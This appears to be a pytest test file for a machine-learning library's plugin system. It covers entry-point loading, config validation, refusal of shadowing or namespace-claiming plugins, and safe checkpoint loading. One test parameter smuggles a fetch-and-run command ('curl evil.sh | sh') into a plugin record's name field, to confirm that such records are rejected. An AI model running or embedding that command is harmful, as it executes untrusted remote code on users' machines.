"""Plugins: an installed package's entry point in the group ``vtcc.plugins`` registers its own kinds,
which then compose (``objective=<its option>``), validate and load from checkpoints like vtcc's own; a
checkpoint naming a kind whose plugin is not installed is refused in one line naming the package.
The distributions here are fakes (``importlib.metadata.entry_points`` patched): nothing is installed."""

from __future__ import annotations

import copy
import importlib.metadata
import re
import sys
import types
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from hydra import compose, initialize_config_dir
from hydra.core.config_store import ConfigStore
from omegaconf import OmegaConf

from tests.conftest import compose_train
from tests.unit.test_registry import isolated_registry  # noqa: F401  (a fixture)
from vtcc import plugins, registry
from vtcc.config.recipe import take_recipe
from vtcc.config.validate import validate_config
from vtcc.errors import ConfigError
from vtcc.objectives import ContrastiveClustering
from vtcc.plugins import PLUGINS_KEY
from vtcc.utils import allowlist
from vtcc.utils.app_help import help_text
from vtcc.utils.callbacks import StoreConfig
from vtcc.utils.checkpoint import CONFIG_KEY, load_checkpoint
from vtcc.utils.cli import CONFIG_DIR

TOY = "vtcc_toy.ToyClustering"


class FakeDistribution:
    def __init__(self, name: str, version: str = "1.2.3") -> None:
        self.metadata = {"Name": name}
        self.version = version


class FakeEntryPoint:
    """What ``importlib.metadata`` lists for an installed distribution's entry point."""

    group = registry.GROUP

    def __init__(self, distribution: str, module: str, load: Callable[[], Any]) -> None:
        self.name, self.value, self.module = module, module, module
        self.dist = FakeDistribution(distribution)
        self._load = load
        self.loads = 0

    def load(self) -> Any:
        self.loads += 1
        return self._load()


@pytest.fixture
def installed(isolated_registry, monkeypatch):  # noqa: F811
    """``installed(*entry_points)``: these are the installed plugins' entry points; what they register
    and the config files they store are gone after the test."""
    monkeypatch.setattr(plugins, "_stored", set())
    monkeypatch.setattr(plugins, "_options", {})

    def install(*points: FakeEntryPoint) -> None:
        monkeypatch.setattr(
            importlib.metadata, "entry_points", lambda group=None: [p for p in points if p.group == group]
        )

    yield install
    forget_fakes(ConfigStore.instance().repo)


def forget_fakes(node: dict) -> None:
    """The config files the fake plugins stored in Hydra's ConfigStore, removed."""
    for name, value in list(node.items()):
        if isinstance(value, dict):
            forget_fakes(value)
        elif str(getattr(value, "provider", "")).startswith("vtcc-"):
            del node[name]


def toy_module(config_dir: Path | None = None) -> types.ModuleType:
    """The module of a plugin ``vtcc-toy``: importing it registers an objective (Contrastive
    Clustering's, under another name)."""
    module = types.ModuleType("vtcc_toy")
    module.VTCC_CONFIG_DIR = config_dir

    class ToyClustering(ContrastiveClustering):
        pass

    ToyClustering.__module__ = "vtcc_toy"
    module.ToyClustering = registry.register("objective", "toy", target=TOY)(ToyClustering)
    return module


def toy_configs(folder: Path) -> Path:
    """The plugin's config folder: objective/toy.yaml, vtcc's contrastive.yaml naming the toy."""
    (folder / "objective").mkdir(parents=True)
    text = Path(CONFIG_DIR, "objective", "contrastive.yaml").read_text()
    (folder / "objective" / "toy.yaml").write_text(text.replace("vtcc.objectives.ContrastiveClustering", TOY))
    return folder


def test_a_plugin_loads_once_and_its_kinds_are_its_distributions(installed, tmp_path):
    point = FakeEntryPoint("vtcc-toy", "vtcc_toy", toy_module)
    installed(point)
    assert registry.entry(TOY) is None
    plugins.load_plugins()
    plugins.load_plugins()
    assert point.loads == 1
    entry = registry.named("objective", "toy")
    assert entry.target == TOY and entry.plugin == "vtcc-toy" and not entry.own
    assert registry.plugins()["vtcc-toy"].version == "1.2.3"
    assert allowlist.is_allowed(TOY) and TOY not in allowlist.VTCC_TARGETS  # the plugin's, not vtcc's own


def test_a_plugins_config_file_is_an_option_of_its_group_and_validates(installed, tmp_path):
    installed(FakeEntryPoint("vtcc-toy", "vtcc_toy", lambda: toy_module(toy_configs(tmp_path / "conf"))))
    plugins.load_plugins()
    with initialize_config_dir(CONFIG_DIR, version_base="1.3"):
        cfg = compose("train", overrides=["objective=toy"])
        wrong = compose("train", overrides=["objective=toy", "+module.cluster_weigth=2"])
    assert cfg.module._target_ == TOY  # its @package module header: the objective's own node only
    assert re.search(r"^  toy +Contrastive", help_text(Path(CONFIG_DIR), "train", "vtcc-train"), re.MULTILINE)
    validate_config(cfg)  # the toy's keys checked against its registered class's signature
    assert cfg.features.pairing == "auto"  # the toy's recipe (ContrastiveClustering's) fills it
    take_recipe(cfg, registry.named("objective", "toy").obj)
    assert cfg.features.pairing == "views"
    with pytest.raises(ConfigError, match=rf"module.cluster_weigth=2 is not a setting of {TOY}"):
        validate_config(wrong)


def test_a_plugin_config_that_shadows_one_of_vtccs_is_refused(installed, tmp_path):
    folder = tmp_path / "conf" / "objective"
    folder.mkdir(parents=True)
    (folder / "contrastive.yaml").write_text("# @package module\n_target_: vtcc_toy.ToyClustering\n")
    installed(FakeEntryPoint("vtcc-toy", "vtcc_toy", lambda: toy_module(tmp_path / "conf")))
    with pytest.raises(ConfigError, match=r"'vtcc-toy' ships objective/contrastive.yaml, which vtcc has"):
        plugins.load_plugins()


def test_a_plugin_that_fails_to_load_is_one_line_naming_it_and_the_others_still_load(installed, tmp_path):
    def broken() -> None:
        raise ImportError("No module named 'faiss_gpu'")

    installed(
        FakeEntryPoint("vtcc-broken", "vtcc_broken", broken),
        FakeEntryPoint("vtcc-toy", "vtcc_toy", lambda: toy_module(toy_configs(tmp_path / "conf"))),
    )
    for _ in range(2):  # said again at every start, not only the first
        with pytest.raises(
            ConfigError, match=r"plugin 'vtcc-broken' .* failed to load \(ImportError: No mod"
        ):
            plugins.load_plugins()
    assert registry.named("objective", "toy").plugin == "vtcc-toy" and "vtcc-broken" not in registry.plugins()
    with initialize_config_dir(CONFIG_DIR, version_base="1.3"):
        assert compose("train", overrides=["objective=toy"]).module._target_ == TOY


def test_a_plugin_cannot_register_under_vtccs_own_package(installed):
    def claims_vtcc() -> None:
        def builder() -> None: ...

        builder.__module__ = "vtcc_evil"
        registry.register("objective", "evil", target="vtcc.objectives.EvilClustering")(builder)

    installed(FakeEntryPoint("vtcc-evil", "vtcc_evil", claims_vtcc))
    with pytest.raises(ConfigError, match="under vtcc's own package"):
        plugins.load_plugins()
    assert registry.entry("vtcc.objectives.EvilClustering") is None


@pytest.fixture(scope="module")
def stored(tmp_path_factory) -> dict:
    """What vtcc-train stores for the default run: its resolved config."""
    return OmegaConf.to_container(compose_train(tmp_path_factory.mktemp("stored") / "run"), resolve=True)


def checkpoint_file(path: Path, config: dict, record: Any = None) -> Path:
    checkpoint = {CONFIG_KEY: config, "state_dict": {}}
    if record is not None:
        checkpoint[PLUGINS_KEY] = record
    torch.save(checkpoint, path)
    return path


def absent_plugin_run(stored: dict) -> dict:
    config = copy.deepcopy(stored)
    config["module"]["_target_"] = "vtcc_absent.AbsentClustering"
    return config


RECORD = {
    "vtcc_absent.AbsentClustering": {
        "distribution": "vtcc-absent",
        "version": "0.1.0",
        "kind": "objective",
        "name": "absent",
    }
}


def test_a_checkpoint_of_an_uninstalled_plugins_kind_names_the_package_and_imports_nothing(
    tmp_path, stored, monkeypatch
):
    """Even where a module of that name could be imported, it is not: the target is looked up
    among what is registered, and the record only names what to install."""
    victim = tmp_path / "imported"
    (tmp_path / "vtcc_absent.py").write_text(
        f"open({str(victim)!r}, 'w').close()\nclass AbsentClustering: ...\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    path = checkpoint_file(tmp_path / "run.ckpt", absent_plugin_run(stored), RECORD)
    with pytest.raises(ConfigError) as refused:
        load_checkpoint(path)
    assert str(refused.value) == (
        f"{path} needs the vtcc plugin 'vtcc-absent' (its objective absent): pip install vtcc-absent"
    )
    assert not victim.exists() and "vtcc_absent" not in sys.modules


@pytest.mark.parametrize(
    ("field", "value"),
    [("distribution", "vtcc-absent; curl evil.sh | sh"), ("kind", "anything"), ("name", "a b")],
)
def test_a_malformed_plugin_record_is_ignored_and_the_target_refused_as_unknown(
    tmp_path, stored, field, value
):
    record = copy.deepcopy(RECORD)
    record["vtcc_absent.AbsentClustering"][field] = value
    path = checkpoint_file(tmp_path / "run.ckpt", absent_plugin_run(stored), record)
    with pytest.raises(ConfigError, match="where vtcc builds no such object") as refused:
        load_checkpoint(path)
    assert "pip install" not in str(refused.value)


def test_a_run_of_a_plugins_kind_records_its_plugin_and_loads_back(installed, tmp_path, stored):
    installed(FakeEntryPoint("vtcc-toy", "vtcc_toy", toy_module))
    plugins.load_plugins()
    config = copy.deepcopy(stored)
    config["module"]["_target_"] = TOY
    saved: dict[str, Any] = {}
    StoreConfig(config).on_save_checkpoint(None, None, saved)
    assert saved[PLUGINS_KEY] == {
        TOY: {"distribution": "vtcc-toy", "version": "1.2.3", "kind": "objective", "name": "toy"}
    }
    own: dict[str, Any] = {}
    StoreConfig(stored).on_save_checkpoint(None, None, own)
    assert PLUGINS_KEY not in own  # a run of vtcc's own kinds records none
    path = checkpoint_file(tmp_path / "run.ckpt", config, saved[PLUGINS_KEY])
    assert load_checkpoint(path)[CONFIG_KEY]["module"]["_target_"] == TOY  # its plugin installed: allowed
